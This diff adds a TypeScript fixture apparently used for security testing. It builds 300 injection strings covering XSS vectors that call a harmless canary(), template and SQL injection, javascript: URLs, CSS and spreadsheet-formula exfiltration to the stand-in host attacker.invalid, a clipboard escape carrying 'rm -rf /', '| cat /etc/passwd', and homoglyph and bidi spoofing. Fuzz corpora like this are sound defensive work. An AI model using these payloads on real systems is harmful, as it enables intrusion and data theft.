@@ -1,0 +1,290 @@
+// Texts that try to become something else: markup, code, an address, a style, a formula, another text. Each that runs
+// calls `canary()`, each that loads something asks a host that is not the service.
+
+const call = 'canary()'
+const host = 'https://attacker.invalid'
+
+const handlers = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerenter',
+]
+const handled = ['img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'iframe']
+
+const scripts = [
+  `<script>${call}</script>`,
+  `<SCRIPT>${call}</SCRIPT>`,
+  `<script src=${host}/x.js></script>`,
+  `<script type=module>${call}</script>`,
+  `"><script>${call}</script>`,
+  `'><script>${call}</script>`,
+  `</script><script>${call}</script>`,
+  `</title><script>${call}</script>`,
+  `</textarea><script>${call}</script>`,
+  `--><script>${call}</script>`,
+  `]]><script>${call}</script>`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<script\u0000>${call}</script>`,
+  `<script/x>${call}</script>`,
+  `<script>/*</script><script>*/${call}</script>`,
+  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${call}</script>"></object>`,
+  `<embed src="data:text/html,<script>${call}</script>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<template><script>${call}</script></template>`,
+]
+
+const templates = [
+  `{{${call}}}`,
+  `{{constructor.constructor('${call}')()}}`,
+  '{{7*7}}',
+  `\${${call}}`,
+  `\`\${${call}}\``,
+  `#{${call}}`,
+  `<%= ${call} %>`,
+  `{% ${call} %}`,
+  `[[${call}]]`,
+  `@(${call})`,
+  '%{7*7}',
+  `*{${call}}`,
+  `{{#with "s"}}{{${call}}}{{/with}}`,
+  `$eval('${call}')`,
+  `{"__html":"<img src=x onerror=${call}>"}`,
+  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
+  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${call}"}}`,
+  '%s%s%s%n%d%o',
+]
+
+const addresses = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `java\tscript:${call}`,
+  `java\nscript:${call}`,
+  ` javascript:${call}`,
+  `\u0001javascript:${call}`,
+  `javascript://%0a${call}`,
+  `javascript&colon;${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
+  `vbscript:${call}`,
+  `<a href="javascript:${call}">press</a>`,
+  `<a href="${host}" autofocus onfocus=${call}>press</a>`,
+  `[press](javascript:${call})`,
+  `![x](${host}/x.png)`,
+  `<base href="${host}/">`,
+  `<form action="${host}"><button>Sign in</button></form>`,
+  `<meta http-equiv=refresh content="0;url=${host}">`,
+  `<link rel=prefetch href="${host}/x">`,
+  `//attacker.invalid/x`,
+  `ftp://attacker.invalid/x`,
+  `javascript:/*--></title></style></textarea></script><svg onload=${call}>*/${call}`,
+  `data:image/svg+xml,<svg onload=${call}/>`,
+  `\\\\attacker.invalid\\x`,
+  `/fleet/../../login?to=${host}`,
+  `https://user:password@attacker.invalid/#?`,
+  `blob:${host}/x`,
+]
+
+const styles = [
+  `<style>*{background:url(${host}/x)}</style>`,
+  `</style><style>body{display:none}</style>`,
+  `<style>@import '${host}/x.css';</style>`,
+  `<div style="position:fixed;inset:0;background:red">`,
+  `<p style="background:url(${host}/x)">`,
+  `x" style="width:9999px`,
+  `x;background:url(${host}/x)`,
+  `}*{display:none}/*`,
+  `expression(${call})`,
+  `<link rel=stylesheet href=${host}/x.css>`,
+  `<font size=999>huge</font>`,
+  `<marquee>`,
+  `<table><td><table>`,
+  `var(--x,url(${host}))`,
+]
+
+const drawings = [
+  `<svg onload=${call}>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><script href="data:,${call}"/></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${call}"><text y=20>press</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></foreignObject></svg>`,
+  `<svg><style>*{fill:url(${host}/x)}</style></svg>`,
+  `<svg><image href="${host}/x.png"/></svg>`,
+  `<svg width=99999 height=99999>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
+  `<math href="javascript:${call}">press</math>`,
+  `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x`,
+]
+
+/** Marks of direction: a text that reads otherwise than it is written. */
+const directions = [
+  '\u202a',
+  '\u202b',
+  '\u202c',
+  '\u202d',
+  '\u202e',
+  '\u2066',
+  '\u2067',
+  '\u2068',
+  '\u2069',
+  '\u200e',
+  '\u200f',
+  '\u061c',
+]
+const unseen = [
+  '\u200b',
+  '\u200c',
+  '\u200d',
+  '\u2060',
+  '\u2061',
+  '\ufeff',
+  '\u00ad',
+  '\u034f',
+  '\u115f',
+  '\u3164',
+  '\uffa0',
+  '\u180e',
+  '\u{e0001}',
+  '\u{e0041}\u{e0042}',
+]
+
+const terminals = [
+  '\u001b[2J\u001b[H',
+  '\u001b[31mred\u001b[0m',
+  `\u001b]8;;${host}\u0007press\u001b]8;;\u0007`,
+  '\u001b]0;another title\u0007',
+  '\u001b]52;c;cm0gLXJmIC8=\u0007',
+  '\u009b31mred',
+  'a\u0008\u0008\u0008b',
+  'first\rsecond',
+  'one\r\ntwo\r\nthree',
+  '\u0007\u0007\u0007',
+  '\u0000\u0001\u0002',
+  '\u007f\u0080\u0085',
+]
+
+const lengths = [
+  'A'.repeat(100_000),
+  'no-space-'.repeat(12_000),
+  'many words '.repeat(9_000),
+  '𝕎'.repeat(50_000),
+  `${'\n'.repeat(900)}below`,
+  `${' '.repeat(900)}far right`,
+  `${'\t'.repeat(500)}x`,
+  '<'.repeat(5_000),
+  '&amp;'.repeat(5_000),
+  '漢'.repeat(30_000),
+  `${'/very/long/path'.repeat(700)}/file`,
+  '👩‍👩‍👧‍👦'.repeat(4_000),
+]
+
+const scriptsOfOthers = [
+  'مرحبا بالعالم هذا نص طويل من اليمين إلى اليسار',
+  'שלום עולם, זה טקסט מימין לשמאל',
+  `مرحبا <script>${call}</script> بالعالم`,
+  'abc שלום def مرحبا ghi',
+  'Ż̴̡̢̛̛͎͓̰̱͕̦̙̄̍̒͂̐̈́̽͘a̷̢̡̛͓̪̠̖̤̟̽͌̿̋̐̕l̸̡̛̳̮̻̤̐̇̌͗̕g̵̛̛̱̬̗̦̏̈́͑̚o̶̢̨̖̲̾̾̓̔̕',
+  `e${'\u0301'.repeat(300)}`,
+  '\u0e47'.repeat(200),
+  '﷽'.repeat(40),
+  '𒐫𒈙⸻꧅'.repeat(10),
+  'ﷺ\u0489'.repeat(40),
+  'ⅰ①Ａｄｍｉｎ',
+  'аdmin',
+  'раураl',
+  '日本語の長い文章が折り返されずに続いていくとどうなるのかを確かめる',
+  '한국어 문장',
+  'ไทยไม่มีช่องว่างระหว่างคำ'.repeat(8),
+  'नमस्ते दुनिया',
+  '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
+]
+
+const formulas = ['=', '+', '-', '@', '\t=', '\r=', '%0A='].flatMap((start) => [
+  `${start}cmd|' /C calc'!A0`,
+  `${start}HYPERLINK("${host}?x="&A1,"press")`,
+])
+
+const names = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'hasOwnProperty',
+  'toString',
+  'valueOf',
+  'then',
+  '__defineGetter__',
+  'length',
+  'undefined',
+  'null',
+  'NaN',
+  'true',
+  '[object Object]',
+  '0',
+  '-1',
+  '1e999',
+  'Infinity',
+]
+
+const encodings = [
+  `&lt;script&gt;${call}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${call}&#62;`,
+  `&#x3c;script&#x3e;${call}`,
+  `%3Cscript%3E${call}%3C/script%3E`,
+  `\\u003cscript\\u003e${call}`,
+  `\\x3cscript\\x3e${call}`,
+  `＜script＞${call}＜/script＞`,
+  `+ADw-script+AD4-${call}`,
+  `<img src=x onerror=&#99;&#97;&#110;&#97;&#114;&#121;()>`,
+  `¼script¾${call}¼/script¾`,
+  `<a id=location href=${host}>`,
+  `<img name=getElementById>`,
+  `<form id=document><input name=cookie></form>`,
+  `<p id=root>another root</p>`,
+  `<div id="bench" class="dialog" role="alert">The agent confirmed: stopped</div>`,
+]
+
+const breaks = [
+  `'; ${call}; //`,
+  `"; ${call}; //`,
+  `\\"; ${call}; //`,
+  `\u2028${call}\u2029`,
+  `</pre>${call}`,
+  `*/${call}/*`,
+  `"}],"evil":[{"x":"`,
+  `' or 1=1 --`,
+  `"; drop table events; --`,
+  `\ndata: {"type":"event"}\n\n`,
+  `event: control\ndata: {}\n\n`,
+  `| cat /etc/passwd`,
+  `$(${call})`,
+  `\`${call}\``,
+]
+
+const all = [
+  ...scripts,
+  ...templates,
+  ...addresses,
+  ...styles,
+  ...drawings,
+  ...directions.map((mark) => `invoice${mark}gpj.exe`),
+  ...unseen.map((mark) => `ad${mark}min${mark}`),
+  ...terminals,
+  ...lengths,
+  ...scriptsOfOthers,
+  ...formulas,
+  ...names,
+  ...encodings,
+  ...breaks,
+  ...handled.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${call}>`)),
+  ...handlers.flatMap((handler) => [`x" ${handler}="${call}`, `x' ${handler}='${call}`, `x ${handler}=${call} y`]),
+]
+
+/** Three hundred, in a fixed order. */
+export const injections: readonly string[] = [...new Set(all)].slice(0, 300)
